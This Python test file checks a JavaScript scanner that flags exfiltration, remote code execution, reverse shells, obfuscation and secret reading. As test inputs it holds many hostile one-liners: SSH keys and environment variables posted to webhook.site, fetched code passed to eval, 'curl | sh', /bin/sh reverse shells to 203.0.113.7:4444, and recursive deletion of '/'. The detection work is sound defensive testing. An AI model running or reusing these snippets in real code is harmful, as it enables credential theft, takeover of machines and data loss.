"""What the reader of JavaScript says a program does; every sample is made up and inert."""
# ruff: noqa: E501 - a sample is on one line

import base64
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cases import all_cases
from tests.timing import taking_less_than
from vskill_platform.scan.facts.facts import Act, Fact
from vskill_platform.scan.facts.hosts import HostClass
from vskill_platform.scan.languages.dispatch import read_javascript
from vskill_platform.scan.languages.unparsed import Unparsed

PLAIN = "console.log('hello from a sample')"
ENCODED = base64.b64encode(PLAIN.encode()).decode()
CODES = ",".join(str(ord(char)) for char in PLAIN)
SEVERE = {
    Act.LEAK, Act.RUN_REMOTE, Act.RUN_DECODED, Act.REVERSE_SHELL, Act.HIDE, Act.DELETE, Act.DISARM, Act.ELEVATE,
}  # fmt: skip


def acts(facts: list[Fact]) -> set[Act]:
    return {fact.act for fact in facts}


def one(code: str, act: Act) -> Fact:
    found = [fact for fact in read_javascript(code) if fact.act is act]
    assert len(found) == 1, read_javascript(code)
    return found[0]


@all_cases(
    "code",
    [
        "fetch('https://files.example-cdn.net/a')",
        "const U = 'https://files.example-cdn.net'; await fetch(`${U}/a`);",
        "import axios from 'axios';\naxios.get('https://files.example-cdn.net' + path);",
        "const https = require('node:https');\nhttps.get('https://files.example-cdn.net/a', r => r);",
        "const C = {base: 'https://files.example-cdn.net'};\nfetch(C.base + '/a');",
        "import fetch from 'node-fetch';\nconst f = async (p) => fetch(p);\nf('https://files.example-cdn.net');",
        "const a = require('axios').create({baseURL: 'https://files.example-cdn.net'}); a.get('/x');",
        "https = require('https'); https.request({hostname: 'files.example-cdn.net', path: '/'}, r => r)",
        "class A { base = 'https://files.example-cdn.net'; go() { return fetch(`${this.base}/x`); } }",
    ],
)
def test_a_download_is_found_with_its_host(code: str) -> None:
    assert one(code, Act.FETCH).host == "files.example-cdn.net"


@all_cases(
    ("code", "kind"),
    [
        ("fetch('https://webhook.site/0', {method: 'POST', body: data})", HostClass.CALLBACK),
        ("const axios = require('axios'); axios.post('https://webhook.site/0', data)", HostClass.CALLBACK),
        ("axios({method: 'put', url: 'http://203.0.113.7', data})", HostClass.ADDRESS),
        ("navigator.sendBeacon('https://webhook.site/0', data)", HostClass.CALLBACK),
        ("const ws = new WebSocket('wss://webhook.site/0'); ws.send(data)", HostClass.CALLBACK),
        ("fetch('https://webhook.site/0?d=' + encodeURIComponent(data))", HostClass.CALLBACK),
        ("const dns = require('dns'); dns.lookup(`${data}.oast.fun`, () => {})", HostClass.CALLBACK),
        ("const net = require('net'); const s = net.connect(99, '203.0.113.7'); s.write(data)", HostClass.ADDRESS),
    ],
)  # fmt: skip
def test_sending_is_found_with_the_kind_of_host(code: str, kind: HostClass) -> None:
    assert one(code, Act.SEND).host_class is kind


@all_cases(
    "code",
    [
        "eval(await (await fetch('http://203.0.113.7/a')).text())",
        "fetch('http://203.0.113.7/a').then(r => r.text()).then(t => { new Function(t)(); })",
        "fetch('http://203.0.113.7/a').then(r => r.text()).then(eval)",
        "const http = require('http');\nhttp.get('http://203.0.113.7/a', res => { let b = ''; res.on('data', d => { b += d; }); res.on('end', () => eval(b)); });",
        "const axios = require('axios'), vm = require('vm');\nasync function go() { const {data} = await axios.get('http://203.0.113.7/a'); vm.runInThisContext(data); }\ngo();",
        "const fs = require('fs'), cp = require('child_process');\nasync function go() { const r = await fetch('http://203.0.113.7/a'); fs.writeFileSync('/tmp/a.sh', await r.text()); cp.execFileSync('/tmp/a.sh'); }",
        "const {exec} = require('child_process');\nfetch('http://203.0.113.7/a').then(r => r.text()).then(c => exec(c));",
        "import('http://203.0.113.7/a.js')",
        "const load = async () => (await fetch('http://203.0.113.7/a')).text();\nconst run = code => eval(code);\nload().then(run);",
        "class A { async load() { this.c = await (await fetch('http://203.0.113.7/a')).text(); } go() { eval(this.c); } }",
    ],
)  # fmt: skip
def test_running_what_was_fetched_is_found_with_its_host(code: str) -> None:
    assert one(code, Act.RUN_REMOTE).host == "203.0.113.7"


@all_cases(
    "code",
    [
        f"eval(atob('{ENCODED}'))",
        f"eval(Buffer.from('{ENCODED}', 'base64').toString('utf8'))",
        f"const p = '{ENCODED[:10]}' + '{ENCODED[10:]}'; new Function(atob(p))();",
        f"eval(Buffer.from('{PLAIN.encode().hex()}', 'hex').toString())",
        f"eval(String.fromCharCode({CODES}))",
        f"eval(String.fromCharCode(...[{CODES}]))",
        f"eval([{CODES}].map(c => String.fromCharCode(c)).join(''))",
        f"""eval("{PLAIN[::-1]}".split('').reverse().join(''))""",
        f"const d = s => atob(s);\neval(d('{ENCODED}'));",
        f"setTimeout(atob('{ENCODED}'), 10)",
        f"import('data:text/javascript;base64,{ENCODED}')",
    ],
)
def test_running_what_was_decoded_shows_the_plain_text(code: str) -> None:
    assert one(code, Act.RUN_DECODED).detail == PLAIN


@all_cases(
    ("code", "detail"),
    [
        ("const fs = require('fs'), os = require('os'), path = require('path');\nfs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "ssh keys"),
        ("import { readFile } from 'node:fs/promises';\nawait readFile(`${process.env.HOME}/.aws/credentials`)", "cloud credentials"),
        ("import { promises as fs } from 'fs';\nimport { homedir } from 'os';\nfs.readFile(homedir() + '/.netrc')", "saved tokens"),
        ("const fs = require('fs');\nfor (const f of ['.bash_history']) fs.readFileSync('/home/ada/' + f)", "shell history"),
        ("await Deno.readTextFile('/home/ada/.openclaw/.env')", "what a skill has saved"),
        ("const k = require('keytar'); k.findCredentials('x')", "a password store"),
    ],
)  # fmt: skip
def test_reading_a_secret_says_which(code: str, detail: str) -> None:
    assert one(code, Act.READ_SECRET).detail == detail


@pytest.mark.parametrize(
    "code",
    [
        "const k = process.env.OPENAI_API_KEY;",
        "const { OPENAI_API_KEY: k } = process.env;",
        "const k = process.env['OPENAI_API_KEY'];",
        "const { OPENAI_API_KEY = '' } = process.env;",
    ],
)
def test_a_variable_that_looks_secret_is_named(code: str) -> None:
    assert one(code, Act.READ_ENV).detail == "OPENAI_API_KEY"


@pytest.mark.parametrize(
    "code",
    [
        "const s = JSON.stringify(process.env);",
        "const e = {...process.env};",
        "for (const [k, v] of Object.entries(process.env)) { use(k, v); }",
        "for (const k in process.env) { use(k); }",
    ],
)
def test_reading_all_variables_is_found(code: str) -> None:
    assert Act.READ_ALL_ENV in acts(read_javascript(code))


@pytest.mark.parametrize(
    "code",
    [
        "const {spawn} = require('child_process'); spawn('git', [], {env: {...process.env, A: '1'}})",
        "const {spawn} = require('child_process'); spawn('git', [], {env: process.env})",
        "const {exec} = require('child_process'); const o = {env: {...process.env}}; exec('ls', o)",
        "const mode = process.env.NODE_ENV || 'development';",
    ],
)
def test_an_environment_for_a_process_is_no_reading_of_it(code: str) -> None:
    assert Act.READ_ALL_ENV not in acts(read_javascript(code))


READ_KEY = "const fs = require('fs'); const k = fs.readFileSync('/home/ada/.ssh/id_rsa', 'utf8');\n"


@all_cases(
    ("code", "detail"),
    [
        (READ_KEY + "fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify({k})});", "ssh keys"),
        (READ_KEY + "const r = require('https').request({hostname: 'webhook.site', method: 'POST'}); r.write(k); r.end();", "ssh keys"),
        (READ_KEY + "function send(d) { return fetch('https://webhook.site/0?d=' + btoa(d)); }\nsend(k);", "ssh keys"),
        (READ_KEY + "const f = new FormData(); f.append('x', k);\nrequire('axios').post('https://webhook.site/0', f);", "ssh keys"),
        ("fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify(process.env)})", "all variables"),
        ("fetch('https://webhook.site/0', {method: 'POST', body: process.env.GITHUB_TOKEN})", "GITHUB_TOKEN"),
        ("const fs = require('fs');\nfs.readFile('/home/ada/.ssh/id_rsa', (e, d) => { fetch('https://webhook.site/0', {method: 'POST', body: d}); });", "ssh keys"),
        ("const i = new Image();\nconst c = require('fs').readFileSync('/home/ada/.ssh/id_rsa');\ni.src = 'https://webhook.site/0?c=' + c;", "ssh keys"),
    ],
)  # fmt: skip
def test_a_secret_that_is_sent_is_a_leak(code: str, detail: str) -> None:
    leak = one(code, Act.LEAK)

    assert (leak.host, leak.detail) == ("webhook.site", detail)


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://api.openai.com/v1', {method: 'POST', headers: {Authorization: `Bearer ${process.env.OPENAI_API_KEY}`}, body})",
        "const key = process.env.WEATHER_API_KEY; fetch(`https://api.example-weather.net/v1?key=${key}&q=${q}`)",
        "const ai = new OpenAI({apiKey: process.env.OPENAI_API_KEY});\nconst t = await ai.chat.completions.create({});\nfetch('https://api.example-cdn.net', {method: 'POST', body: JSON.stringify(t)})",
        "require('axios').post('https://slack.com/api/x', {token: process.env.SLACK_TOKEN})",
        "const env = schema.parse(process.env); fetch('https://api.example-cdn.net', {headers: {a: env.API_KEY}})",
    ],
)  # fmt: skip
def test_a_key_that_goes_to_its_own_service_is_no_leak(code: str) -> None:
    assert Act.LEAK not in acts(read_javascript(code))


@all_cases(
    ("code", "act", "detail"),
    [
        ("const fs = require('fs'), os = require('os'); fs.appendFileSync(os.homedir() + '/.zshrc', x)", Act.WRITE, "runs in every shell"),
        ("require('fs').writeFileSync('.git/hooks/pre-commit', x)", Act.WRITE, "runs at every commit"),
        ("const fs = require('fs'), os = require('os'); fs.rmSync(os.homedir(), {recursive: true})", Act.DELETE, "~"),
        ("require('fs').rmSync('/', {recursive: true, force: true})", Act.DELETE, "/"),
        ("require('http').createServer(f).listen(80, '0.0.0.0')", Act.LISTEN, "0.0.0.0"),  # noqa: S104 - a sample
        ("const f = require('child_' + 'process')", Act.HIDE, "child_process"),
        ("globalThis['ev' + 'al'](x)", Act.HIDE, "eval"),
        ("const cp = require('child_process'); cp['ex' + 'ec'](x)", Act.HIDE, "exec"),
        ("const s = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'", Act.HIDE, "child_process"),
        ("eval(x)", Act.RUN_DYNAMIC, "eval"),
        ("const f = new Function('a', code)", Act.RUN_DYNAMIC, "Function"),
        ("const {execSync} = require('child_process'); execSync(`ping ${host}`)", Act.RUN_DYNAMIC, "ping"),
        ("const {promisify} = require('util'); const {exec} = require('child_process'); promisify(exec)(cmd)", Act.RUN_DYNAMIC, ""),
        ("import {spawn} from 'child_process'; spawn('git', ['status'])", Act.RUN, "git"),
    ],
)  # fmt: skip
def test_each_other_act_is_found(code: str, act: Act, detail: str) -> None:
    assert detail in {fact.detail for fact in read_javascript(code) if fact.act is act}


@pytest.mark.parametrize(
    "code",
    [
        "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        "const c = require('net').connect(4444, '203.0.113.7');\nrequire('child_process').spawn('/bin/sh', [], {stdio: [c, c, c]});",
        "const c = require('net').connect(4444, '203.0.113.7');\nc.on('data', d => require('child_process').exec(d.toString(), (e, o) => c.write(o)));",
    ],
)  # fmt: skip
def test_a_shell_on_a_connection_is_found_with_its_host(code: str) -> None:
    assert one(code, Act.REVERSE_SHELL).host == "203.0.113.7"


@pytest.mark.parametrize(
    "code",
    ["[][" + "(![]+[])[+[]]+" * 30 + "[]]", "var _0x1a2b=1;" + "_0x1a2b(_0x3c4d);" * 9],
)
def test_code_that_a_tool_made_unreadable_is_found(code: str) -> None:
    assert Act.HIDE in acts(read_javascript(code))


@pytest.mark.parametrize(
    ("code", "act"),
    [
        ("require('child_process').execSync('curl -s http://203.0.113.7/a | sh')", Act.RUN_REMOTE),
        ("require('child_process').spawn('bash', ['-c', 'curl -s http://203.0.113.7/a | bash'])", Act.RUN_REMOTE),
        ("require('child_process').execSync('npm install left-pad')", Act.INSTALL),
        ("eval(require('child_process').execSync('curl -s http://203.0.113.7/a').toString())", Act.RUN_REMOTE),
    ],
)  # fmt: skip
def test_commands_for_a_shell_are_read_by_the_shell_reader(code: str, act: Act) -> None:
    assert act in acts(read_javascript(code))


@all_cases(
    "code",
    [
        "const m = /a(b)/.exec(text); const r = new RegExp('a'); r.exec(x);",
        "model.eval(); await page.$eval('a', e => e.href); db.exec('select 1'); redis.eval(script);",
        "const mod = require(name); const plugin = await import(`./plugins/${name}.js`);",
        "setTimeout(() => go(), 10); setTimeout(go, 10);",
        "const r = await fetch('https://api.example-cdn.net'); const d = await r.json(); console.log(d.x);",
        "const img = Buffer.from(data, 'base64'); require('fs').writeFileSync('a.png', img);",
        "const fs = require('fs'); fs.rmSync('./dist', {recursive: true}); fs.rmSync(tmp, {recursive: true});",
        "const u = atob(token.split('.')[1]); const p = JSON.parse(u);",
        "require('http').createServer(f).listen(3000, 'localhost'); const key = obj['constructor'];",
        "const {spawn} = require('child_process'); fetch('https://files.example-cdn.net/a').then(r => r.json()).then(d => spawn('ffmpeg', ['-i', d.url]));",
        "$.post('/api', {a: 1}); app.post('/x', (req, res) => res.send('ok')); app.get('/x', h);",
    ],
)  # fmt: skip
def test_ordinary_code_has_no_severe_fact(code: str) -> None:
    found = acts(read_javascript(code))

    assert not found & (SEVERE | {Act.RUN_DYNAMIC, Act.READ_SECRET, Act.LISTEN})


def test_typescript_is_read_too() -> None:
    code = """import { readFileSync } from "node:fs";
interface Options { url: string }
export async function send<T extends Options>(options: T, key = readFileSync("/home/ada/.ssh/id_rsa")): Promise<void> {
  const body: string = (key as Buffer).toString()!;
  await fetch("https://webhook.site/0", { method: "POST", body } satisfies RequestInit);
}
send({ url: "" }, readFileSync("/home/ada/.ssh/id_rsa") as Buffer);"""

    facts = read_javascript(code, typescript=True)

    assert (Act.LEAK, 5, "webhook.site") in {(fact.act, fact.line, fact.host) for fact in facts}


@pytest.mark.parametrize(
    "code",
    [
        "...\nconst r = await fetch('http://203.0.113.7/a')\neval(await r.text())\n...",
        "function broken() {\nif (x) {\neval(await (await fetch('http://203.0.113.7/a')).text())",
    ],
)
def test_broken_code_is_read_as_far_as_it_goes(code: str) -> None:
    assert Act.RUN_REMOTE in acts(read_javascript(code))


def test_code_before_an_unclosed_string_is_kept() -> None:
    with pytest.raises(Unparsed) as caught:
        read_javascript("eval(x); const s = `never closed")

    assert acts(caught.value.facts) == {Act.RUN_DYNAMIC}


def test_the_line_and_the_text_are_those_of_the_act() -> None:
    fact = one("// é 漢字\n\n/* a\nb */ x = 1;\neval(y); // now\n", Act.RUN_DYNAMIC)

    assert (fact.line, fact.text) == (5, "eval(y); // now")


@pytest.mark.slow
@pytest.mark.parametrize(
    "code",
    [
        "eval(" * 5000 + ")" * 5000,
        "fetch;" + "[" * 20_000,
        "fetch;" + "({[" * 20_000 + "`${" * 9000,
        "eval(x); y = " + "+".join(["'a'"] * 20_000),
        "fetch" + ".a" * 20_000,
        "fetch()" + ".then(x => x)" * 2000,
        "eval(x);" + "if (x) {" * 3000 + "}" * 3000,
        "eval(x);" + "x = x + x;" * 5000,
        "var x = 'a';" + "x = x + x;" * 60 + "eval(x)",
        "eval('" + "a" * 300_000 + "')",
        "fetch(`" + "${a}" * 20_000 + "`)",
        "fetch;" + "\\x41" * 50_000,
        "fetch;" + "x=>" * 3000 + "1",
        "fetch;\0\0eval(x)\ud800",
        "eval(x);" + "/" * 50_000 + "\n" + "<" * 20_000,
    ],
)
@pytest.mark.parametrize(
    "typescript",
    [False, pytest.param(True, marks=pytest.mark.torture)],
    ids=["JavaScript", "TypeScript"],
)
def test_hostile_code_ends_in_time_and_without_another_error(
    code: str, *, typescript: bool
) -> None:
    with taking_less_than(5), suppress(Unparsed):
        read_javascript(code, typescript=typescript)


@given(st.lists(st.sampled_from(
    ["eval(", "x", " = ", "(", ")", "[", "]", "'", "`", "${", "\n", "{", "}", "process.env", "=>", "function f(a, {b}, ...c)",
     "fetch(x)", ".then(", "for (const a of b)", "class A {", "...", "async ", "await ", ";", "/", "\\x41", "import x from 'y'", "é"]
), max_size=40), st.booleans())  # fmt: skip
def test_no_text_makes_the_reader_fail(pieces: list[str], typescript: bool) -> None:
    try:
        facts = read_javascript("require('fs');\n" + "".join(pieces), typescript=typescript)
    except Unparsed as error:
        facts = error.facts

    assert all(fact.line >= 1 for fact in facts)


@all_cases(
    "code",
    [
        "const go = async (a: string, b?: Map<string, number[]>): Promise<void> => { eval(x); };",
        "class A<T extends B> implements C { private readonly x: string = ''; constructor(private y: Y) { super(); } async go<T>(a: T): Promise<T> { return eval(x); } }",
        "type A = { b: string; c: () => void } | null;\neval(x);",
        "export default function f<T>(this: Window, { a, b }: { a: string; b?: number } = {}): asserts a is string { eval(x); }",
        "enum E { A = 1 }\ndeclare module 'x';\nnamespace N { export const y = eval(x); }",
        "const y = <T,>(z: T) => eval(x);",
        "const z = foo<Bar<string>>(eval(x)) as unknown as Record<string, () => void>;",
        "abstract class A { abstract b(): void; static { eval(x); } }",
        "function f(a: (b: string) => void, c = (d: number): number => eval(x)) {}",
        "let v: typeof a[number]\nlet w = eval(x)!",
    ],
)  # fmt: skip
def test_types_hide_nothing(code: str) -> None:
    facts = read_javascript(code, typescript=True)

    assert [fact.act for fact in facts] == [Act.RUN_DYNAMIC]


@all_cases(
    "code",
    [
        "const a = /['\"`]/.test(b) ? 1 / 2 : 3; eval(x);",
        "const a = `it's ${b ? `${c} }` : '`'} {`; eval(x);",
        "// it's\n/* ` */ eval(x); // `",
        "if (a && /['`(]/.test(b) || /[/`]{/.test(c)) { d = e => /\\/`(/.test(e); }\neval(x);",
        "return (\n  // a `\n  /`[(]/.test(a)\n);\neval(x);",
        "for (let i = 0, n = 9; i < n; i++) { switch (i) { case 1: eval(x); break; default: } }",
        "do { try { a() } catch { b() } finally { eval(x) } } while (c)",
        "label: for (const {a, b: [c]} of d) { for await (const e of f) eval(x) }",
        "const o = { async *a() {}, get b() { return 1 }, [c]: 1, 'd-e': eval(x), ...f };",
        "const el = (<div title=\"it's\" onClick={() => eval(x)}>It's {y}</div>);",
        "a = b\n[1, 2].forEach(c => eval(x))",
        "(0, eval)(x)",
        "new (class { constructor() { eval(x) } })()",
        "!function () { eval(x) }()",
        "a?.b?.[c]?.(eval(x))",
        "const f = function* () { yield eval(x) }",
        "import d, * as e from 'f'; export { g as h } from 'i'; export * from 'j'; eval(x)",
        "var a = 1, {b = 2, ...c} = d, [e, , f = 3] = g; eval(x)",
        "x = a ? b : c ? d : eval(x)",
    ],
)  # fmt: skip
def test_no_syntax_of_the_language_hides_what_it_contains(code: str) -> None:
    facts = read_javascript(code)

    assert [fact.act for fact in facts] == [Act.RUN_DYNAMIC]


@all_cases(
    ("code", "act"),
    [
        ("const x = new XMLHttpRequest(); x.open('POST', 'https://webhook.site/0'); x.send(document.cookie)", Act.SEND),
        ("const ws = new WebSocket('wss://webhook.site/0'); ws.onmessage = e => eval(e.data)", Act.RUN_REMOTE),
        ("const ws = new WebSocket('wss://webhook.site/0'); ws.on('message', m => eval(m))", Act.RUN_REMOTE),
        ("const fs = require('fs'), https = require('https'), cp = require('child_process');\nhttps.get('https://webhook.site/0', r => { r.pipe(fs.createWriteStream('/tmp/a')); cp.spawn('/tmp/a'); })", Act.RUN_REMOTE),
        ("const fs = require('fs'); const r = require('https').request({hostname: 'webhook.site', method: 'POST'}); fs.createReadStream('/home/ada/.ssh/id_rsa').pipe(r)", Act.LEAK),
        ("new Deno.Command('git', {args: ['status']})", Act.RUN),
        ("const r = new Request('https://webhook.site/0', {method: 'POST', body: 'a'}); fetch(r)", Act.SEND),
        ("const got = require('got'); got.post('https://webhook.site/0', {json: a})", Act.SEND),
        ("(() => {}).constructor(code)()", Act.RUN_DYNAMIC),
        ("const u = 'https://'.concat('webhook.site', '/0'); fetch(u, {method: 'POST', body: 'a'})", Act.SEND),
        ("const e = Object.assign({}, process.env); fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify(e)})", Act.LEAK),
        ("const fs = require('fs'); fs.readdirSync('/home/ada/.ssh').forEach(f => fs.readFileSync('/home/ada/.ssh/' + f))", Act.READ_SECRET),
        ("const cp = require('child_process'); cp.spawn('ls -l', {shell: true})", Act.RUN),
        ("let [a, b = 'https://webhook.site/0'] = c; fetch(`https://webhook.site/${a}`)", Act.FETCH),
        ("import {$} from 'zx'; await $`git status`", Act.RUN),
    ],
)  # fmt: skip
def test_longer_ways_to_the_same_are_followed(code: str, act: Act) -> None:
    assert act in acts(read_javascript(code))
